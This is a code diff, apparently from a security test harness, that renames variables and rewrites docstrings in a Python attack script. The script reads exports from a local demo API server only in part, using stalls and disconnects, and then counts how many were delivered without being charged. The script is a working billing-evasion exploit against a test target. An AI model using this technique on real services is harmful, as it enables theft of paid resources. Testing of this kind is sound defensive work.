@@ -21,24 +21,24 @@ PATIENCE = 15.0  # for the last charge to be settled or refunded
 
 
 def attack(target: Target) -> Outcome:
-    """The number of exports that were read in part, but not paid for."""
-    with tempfile.TemporaryDirectory(prefix="finapi-attack-") as place:
+    """Return the number of exports that were partly read but not paid for."""
+    with tempfile.TemporaryDirectory(prefix="finapi-attack-") as directory:
         settings = ("--spool-bytes", MB // 5, "--channel-timeout", 2, "--log-level", "error")
-        with running("demo", "--port", 0, "--data-dir", f"{place}/data", *settings) as server:
+        with running("demo", "--port", 0, "--data-dir", f"{directory}/data", *settings) as server:
             victim = Target(server)
             before = balance(victim)
-            begun = sum(read_in_part(victim, stalls=number % 2 == 0) for number in range(EXPORTS))
+            started_exports = sum(read_in_part(victim, stalls=number % 2 == 0) for number in range(EXPORTS))
             until = time.monotonic() + PATIENCE
-            while before - balance(victim) != begun * COST and time.monotonic() < until:
+            while before - balance(victim) != started_exports * COST and time.monotonic() < until:
                 time.sleep(1.0)
             paid = (before - balance(victim)) // COST
             server.stop()
-    unpaid = begun - paid if begun == EXPORTS else EXPORTS
+    unpaid = started_exports - paid if started_exports == EXPORTS else EXPORTS
     return Outcome(unpaid, 0, f"of {EXPORTS} exports were read in part and not paid for")
 
 
 def read_in_part(target: Target, *, stalls: bool) -> bool:
-    """Read a part of an export; disconnect then, or be cut off. Return whether that part came."""
+    """Read a part of an export, then disconnect or be cut off. Return True if that part came."""
     received = 0
     with slow_client(target, "127.0.0.70") as client, suppress(OSError):
         client.sendall(f"GET {EXPORT} HTTP/1.1\r\nHost: x\r\nX-API-Key: {target.key}\r\n\r\n".encode())
@@ -49,6 +49,6 @@ def read_in_part(target: Target, *, stalls: bool) -> bool:
 
 
 def balance(target: Target) -> int:
-    """The tokens that the account has left."""
+    """Return the account's remaining tokens."""
     answer = target.running.get("/api/v1/account/balance", target.key)
     return int(answer.json["current_balance"])
